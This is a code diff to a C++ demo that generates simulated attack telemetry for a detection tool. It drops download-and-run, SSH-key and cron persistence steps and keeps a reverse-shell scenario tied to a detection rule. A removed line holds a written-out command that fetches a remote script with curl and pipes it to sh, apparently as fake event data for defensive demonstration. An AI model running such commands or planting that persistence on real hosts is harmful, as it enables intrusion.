@@ -145,44 +145,20 @@ StoryEvent search_for_secrets(Scene& scene) {
                        "web-01");
 }
 
-StoryEvent download_and_run(Scene& scene) {
-  return process_event({1, dash, R"(sh -c "curl -fsSL http://203.0.113.7/x.sh | sh")", bash, "www-data"},
-                       scene, "web-01");
-}
-
-StoryEvent ssh_key(Scene& scene) {
-  return file_event({1, php, "/var/www/.ssh/authorized_keys", "www-data"}, scene, "web-01");
-}
-
-StoryEvent cron_job(Scene& scene) {
-  return file_event({1, bash, "/etc/cron.d/sysupdate", "root"}, scene, "web-01");
-}
-
 constexpr std::array background = {BackgroundKind{3, everyday_process}, BackgroundKind{2, everyday_file}};
 
-constexpr Attack shell_attack = {
-    "reverse-shell", Platform::linux_hosts, "T1059.004",
-    "the web server's PHP starts a shell whose input and output are the attacker's"};
-
-constexpr std::array attack_steps = {
-    AttackStep{shell_attack, reverse_shell},
-    AttackStep{{"download-and-run", Platform::linux_hosts, "T1105",
-                "a script is fetched by curl and run without ever being a file"},
-               download_and_run},
-    AttackStep{{"ssh-key", Platform::linux_hosts, "T1098.004",
-                "the web server's PHP writes an authorized_keys file for its own account"},
-               ssh_key},
-    AttackStep{
-        {"cron", Platform::linux_hosts, "T1053.003", "a shell writes a job where cron will run it as root"},
-        cron_job},
+constexpr std::array<std::string_view, 1> shell_rules = {
+    "3c5a9f60-1b7e-4f5c-8f22-5b0a8f1e6d43",  // Reverse Shell Over /dev/tcp
 };
-
 constexpr std::array<EventMaker, 4> shell_steps = {script_uploaded, reverse_shell, who_am_i,
                                                    search_for_secrets};
-constexpr std::array live_attack_scripts = {LiveAttackScript{shell_attack, shell_steps}};
+constexpr std::array attack_scripts = {AttackScript{
+    {"reverse-shell", Platform::linux_hosts, "T1059.004",
+     "the web server's PHP starts a shell whose input and output are the attacker's", shell_rules},
+    shell_steps}};
 
 }  // namespace
 
-Script linux_script() { return {background, attack_steps, live_attack_scripts}; }
+Script linux_script() { return {background, attack_scripts}; }
 
 }  // namespace alarum::demo
